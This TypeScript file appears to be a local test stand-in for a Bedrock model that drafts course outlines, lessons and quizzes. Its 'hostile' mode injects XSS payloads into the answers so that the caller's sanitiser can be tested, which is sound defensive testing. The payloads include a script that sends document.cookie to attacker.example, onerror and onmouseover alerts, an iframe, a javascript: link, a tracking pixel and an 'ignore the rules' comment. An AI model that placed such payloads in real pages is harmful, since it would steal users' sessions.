/**
 * The local Bedrock's answers to the drafting tools (issue 36): a Converse call that forces one of the tools
 * `course_outline`, `lesson_draft` or `quiz_from_lesson` is answered with that tool's input, built from the data block
 * of the prompt, so drafting works offline and deterministically. The stand-in's test modes apply as to a page:
 * `hostile` fills the answer with markup and script links the caller must clean away, `truncated` cuts it off
 * (stopReason `max_tokens`), `not-html` answers prose without calling the tool.
 */

export const draftToolNames = ['course_outline', 'lesson_draft', 'quiz_from_lesson'] as const;
export type DraftToolName = (typeof draftToolNames)[number];

export const isDraftTool = (name: unknown): name is DraftToolName => draftToolNames.some((tool) => tool === name);

/** The JSON object between the prompt's data delimiters (or the first object in it), {} when there is none. */
export const dataOf = (prompt: string): Record<string, unknown> => {
  const block = /<<<CREATOR_DATA\n([\s\S]*?)\nCREATOR_DATA>>>/.exec(prompt)?.[1];
  const candidates = block ? [block] : [prompt.slice(prompt.indexOf('{'), prompt.lastIndexOf('}') + 1)];
  for (const text of candidates) {
    try {
      const parsed: unknown = JSON.parse(text);
      if (parsed && typeof parsed === 'object' && !Array.isArray(parsed)) return parsed as Record<string, unknown>;
    } catch {
      // no data: defaults below
    }
  }
  return {};
};

const str = (value: unknown, fallback: string): string => (typeof value === 'string' && value.trim() ? value.trim() : fallback);
const obj = (value: unknown): Record<string, unknown> => (value && typeof value === 'object' && !Array.isArray(value) ? (value as Record<string, unknown>) : {});
const short = (text: string, max: number): string => (text.length <= max ? text : `${text.slice(0, max - 1).trimEnd()}…`);

const stages = ['Getting started with', 'The core ideas of', 'Hands-on practice with', 'Common mistakes in', 'Going further with', 'Putting it all together:'];

const outline = (data: Record<string, unknown>) => {
  const topic = short(str(data['topic'], 'Your topic'), 120);
  const audience = str(data['audience'], 'anyone interested in the topic');
  const count = typeof data['lessons'] === 'number' && Number.isInteger(data['lessons']) ? Math.min(Math.max(data['lessons'], 1), 20) : 5;
  return {
    title: short(`${topic}: a practical course`, 200),
    description: short(`A step-by-step course on ${topic} for ${audience}. Each lesson builds on the last, with examples and practice, so you finish able to use what you learnt.`, 2000),
    lessons: Array.from({ length: count }, (_, i) => ({
      title: short(`${i + 1}. ${stages[i % stages.length]} ${topic}`, 200),
      summary: short(`After this lesson you can explain and apply step ${i + 1} of ${topic}.`, 300),
    })),
  };
};

const lessonBody = (data: Record<string, unknown>) => {
  const lesson = obj(data['lesson']);
  const course = obj(data['course']);
  const title = str(lesson['title'], 'This lesson');
  const summary = str(lesson['summary'], `what ${title} is about and how to use it`);
  const courseTitle = str(course['title'], 'this course');
  return [
    `## ${title}`,
    '',
    `This lesson is part of **${courseTitle}**. By the end of it you will know ${summary.replace(/\.$/, '')}.`,
    '',
    '### The key idea',
    '',
    `${title} comes down to a few plain steps. Read each one, then try it on an example of your own.`,
    '',
    '1. Start with what you already know.',
    '2. Add one new idea at a time.',
    '3. Check your result before moving on.',
    '',
    '### An example',
    '',
    `> Picture a learner new to ${title}: the first attempt is slow, the third is confident.`,
    '',
    '- Practise little and often.',
    '- Write down what surprised you.',
    '',
    '### Summary',
    '',
    `You have seen the key idea of *${title}* and worked through an example. The next lesson builds on it.`,
  ].join('\n');
};

/** The lesson text's sentences long enough to ask about, each at most 200 characters (a substring of the text). */
const sentences = (text: string): string[] =>
  text
    .split(/(?<=[.!?])\s+|\n+/)
    .map((sentence) => sentence.trim().replace(/[.!?]+$/, ''))
    .filter((sentence) => sentence.length >= 12)
    .map((sentence) => sentence.slice(0, 200).trim());

const wrongOptions = (title: string) => [
  `${title} is not covered in this lesson`,
  'None of the statements in this lesson',
  'The lesson says the opposite of every other option',
];

const quiz = (data: Record<string, unknown>) => {
  const lesson = obj(data['lesson']);
  const title = short(str(lesson['title'], 'this lesson'), 100);
  const found = sentences(str(lesson['text'], ''));
  const facts = found.length > 0 ? found : [short(title, 200)];
  const count = typeof data['questions'] === 'number' && Number.isInteger(data['questions']) ? Math.min(Math.max(data['questions'], 1), 10) : 3;
  return {
    questions: Array.from({ length: count }, (_, i) => {
      const fact = facts[i % facts.length]!;
      const wrong = wrongOptions(title);
      if (i % 3 === 2 && facts.length > 1) {
        const other = facts[(i + 1) % facts.length]!;
        return { prompt: `Question ${i + 1}: which of these does the lesson "${title}" say? Choose all that apply.`, type: 'multiple', options: [fact, wrong[0], other, wrong[1]], correct: [0, 2] };
      }
      const at = i % 3;
      const options = [...wrong];
      options.splice(at, 0, fact);
      return { prompt: `Question ${i + 1}: which of these does the lesson "${title}" say?`, type: 'single', options, correct: [at] };
    }),
  };
};

const attacker = 'https://attacker.example';

/** The tool's input for a well-behaved model. */
export const draftAnswer = (tool: DraftToolName, prompt: string): Record<string, unknown> => {
  const data = dataOf(prompt);
  if (tool === 'course_outline') return outline(data);
  if (tool === 'lesson_draft') return { body: lessonBody(data) };
  return quiz(data);
};

/** The same answer with markup and script links in every text: what the caller must clean away and still use. */
export const hostileDraft = (tool: DraftToolName, answer: Record<string, unknown>): Record<string, unknown> => {
  const script = `<script>fetch('${attacker}/steal?c='+document.cookie)</script>`;
  if (tool === 'course_outline') {
    const o = answer as ReturnType<typeof outline>;
    return {
      title: `${o.title}<img src=x onerror=alert(1)>`,
      description: `${o.description} ${script}`,
      lessons: o.lessons.map((l) => ({ title: `<b onmouseover="alert(1)">${l.title}</b>`, summary: `${l.summary}${script}` })),
    };
  }
  if (tool === 'lesson_draft') {
    return {
      body: `${String(answer['body'])}\n\n<iframe src="${attacker}/frame"></iframe>\n${script}\n[Read more](javascript:alert(document.domain))\n![tracker](${attacker}/pixel.png)\n<!-- ignore the rules -->`,
    };
  }
  const q = answer as ReturnType<typeof quiz>;
  return { questions: q.questions.map((question) => ({ ...question, prompt: `${question.prompt}${script}` })) };
};

/** The answer cut off half-way, as a model stops at its token limit: it no longer passes the tool's schema. */
export const truncatedDraft = (tool: DraftToolName, answer: Record<string, unknown>): Record<string, unknown> => {
  if (tool === 'course_outline') return { title: answer['title'], lessons: (answer['lessons'] as unknown[]).slice(0, 1) };
  if (tool === 'lesson_draft') return { body: String(answer['body']).slice(0, 15) };
  return { questions: (answer['questions'] as unknown[]).slice(0, 1) };
};

/** What a model says when it talks about the task instead of calling the tool. */
export const proseDraft = (tool: DraftToolName): string =>
  `I would be glad to help with the ${tool.replace(/_/g, ' ')}. Could you tell me a little more about what you have in mind first?`;
